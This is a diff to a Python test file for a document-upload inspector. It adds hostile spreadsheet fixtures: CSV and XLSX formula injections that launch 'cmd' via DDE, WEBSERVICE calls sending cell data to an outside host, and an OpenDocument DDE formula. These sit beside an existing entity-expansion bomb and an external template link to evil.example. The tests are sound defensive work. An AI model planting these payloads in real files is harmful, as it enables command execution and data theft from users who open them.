@@ -58,6 +58,7 @@ EXTERNAL = (
     b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
 )
 BILLION = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
+ODS_FORMULA = b"""<s xmlns:table="x"><c table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;)"/></s>"""
 ZEROS = b"\0" * (8 * 1024 * 1024)
 HOSTILE: dict[str, tuple[str, bytes, str]] = {
     "nothing in it": ("a.pdf", b"", "empty"),
@@ -94,8 +95,36 @@ HOSTILE: dict[str, tuple[str, bytes, str]] = {
     "a picture of very many pixels": ("a.png", m.vast_png(60_000, 60_000), "too_many_pixels"),
     "a picture that ends early": ("a.jpg", m.picture("JPEG")[:4000], "damaged"),
     "a program called a text": ("a.txt", b"MZ\x90\0\x03\0\0\0", "not_what_it_says"),
+    "a formula that asks a machine": (
+        "a.xlsx",
+        m.with_formula("_xlfn.WEBSERVICE(&quot;http://x.example&quot;)"),
+        "active",
+    ),
+    "a formula in letters of its own": ("a.xlsx", m.with_formula("W&#69;BSERVICE(A1)"), "active"),
+    "a formula in wide letters": ("a.xlsx", m.with_formula("WEBSERVICE(A1)", "utf-16"), "active"),
+    "a formula that starts a program": ("a.xlsx", m.with_formula("cmd|&apos;/c calc&apos;!A1"), "active"),
+    "a formula far down a sheet": ("a.xlsx", m.with_formula("RTD(&quot;x&quot;)", before=200_000), "active"),
+    "a formula in OpenDocument": ("a.ods", m.odf("spreadsheet", {"styles.xml": ODS_FORMULA}), "active"),
+    "a table that starts a program": ("a.csv", b"name;sum\r\nx;=cmd|' /C calc'!A0\r\n", "active"),
+    "a table that asks a machine": ("a.csv", b'a,"=1+WEBSERVICE(""http://x.example/?""&A1)"\n', "active"),
     "signs that no text has": ("a.csv", b"a;b\0;c", "not_what_it_says"),
 }
+
+
+HARMLESS: dict[str, tuple[str, bytes]] = {
+    "sums and links": (
+        "a.xlsx",
+        m.with_formula("IF(SUM(A1:A9)&gt;0,HYPERLINK(&quot;https://x.example&quot;,A1),&quot;a|b&quot;)"),
+    ),
+    "a column called image": ("a.csv", b"image,call\n- image (page 3),- call (free)\n=SUM(A1:A2),+221 33 123\n"),
+    "what is important": ("a.csv", b"a|b!\n- What is | was important!\n"),
+}
+
+
+@pytest.mark.parametrize("what", HARMLESS)
+def test_what_only_looks_like_it_is_taken(what: str, tmp_path: Path) -> None:
+    """Else an office cannot attach its own budget."""
+    assert isinstance(looked_at(tmp_path, *HARMLESS[what]), Inspected)
 
 
 @pytest.mark.parametrize("what", HOSTILE)
